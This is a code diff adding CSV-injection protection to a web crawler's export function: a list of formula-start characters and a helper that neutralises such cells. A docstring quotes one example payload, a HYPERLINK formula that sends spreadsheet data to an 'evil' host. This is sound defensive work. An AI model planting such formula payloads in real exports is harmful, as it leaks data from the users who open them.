@@ -6,7 +6,8 @@ URL is recorded exactly once, whatever happens to the worker.
 A record has the columns of FIELDS and `fields`, the user's extracted fields (selectors and
 hook) as one object, so that they can never clash with a fixed column. JSON lines keep it as
 an object; CSV spreads it over columns `fields.NAME` after the fixed ones, in name order,
-with list and object values written as JSON.
+with list and object values written as JSON. A CSV cell that a spreadsheet would take for a
+formula (a page title `=HYPERLINK(...)`) is neutralised unless the export asks for raw cells.
 """
 
 from __future__ import annotations
@@ -120,11 +121,13 @@ def export(
     fmt: str = "jsonl",
     since: float | None = None,
     changes: Collection[str] = (),
+    raw_csv: bool = False,
 ) -> int:
     """Write the crawl's records (those of iter_records' `since` and `changes`, of one Redis
     or every shard) to `out` as JSON lines or CSV; returns the row count.
 
-    CSV reads the records twice: first to learn the names of the user's fields."""
+    CSV reads the records twice: first to learn the names of the user's fields. Its cells
+    are made safe for spreadsheets (see `safe_cell`) unless `raw_csv`."""
     rows = 0
     selected = functools.partial(iter_records, shards, crawl, since=since, changes=changes)
     if fmt == "csv":
@@ -133,13 +136,26 @@ def export(
         writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
         writer.writeheader()
         for record in selected():
-            writer.writerow(flat(record))
+            row = flat(record)
+            writer.writerow(row if raw_csv else {k: safe_cell(v) for k, v in row.items()})
             rows += 1
     else:
         for record in selected():
             out.write(json.dumps(record, ensure_ascii=False) + "\n")
             rows += 1
     return rows
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list (CSV injection, CWE-1236)
+
+
+def safe_cell(value: object) -> object:
+    """A text cell starting like a formula, prefixed with a single quote (OWASP's rule):
+    pages are written by strangers, and a title `=HYPERLINK("http://evil/?x="&A1)` opened in
+    a spreadsheet would run, leaking the sheet or starting a program."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def flat(record: dict) -> dict:
